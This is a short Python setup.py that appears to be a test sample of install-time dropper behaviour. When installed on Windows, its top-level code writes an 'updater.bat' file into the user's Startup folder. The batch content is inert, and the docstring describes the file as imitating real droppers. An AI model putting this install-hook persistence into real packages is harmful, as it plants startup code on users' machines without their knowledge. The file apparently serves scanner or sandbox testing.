"""Dies on Linux before setup() (no %APPDATA%); on Windows it plants a batch file in the
user's Startup folder, as real droppers do from setup.py."""

import os

from setuptools import setup

startup = os.path.join(os.environ["APPDATA"], "Microsoft", "Windows", "Start Menu",
                       "Programs", "Startup")
os.makedirs(startup, exist_ok=True)
with open(os.path.join(startup, "updater.bat"), "w") as batch:
    batch.write("@echo off\n")

setup(name="wingated-pkg", version="1.0.0", py_modules=[])
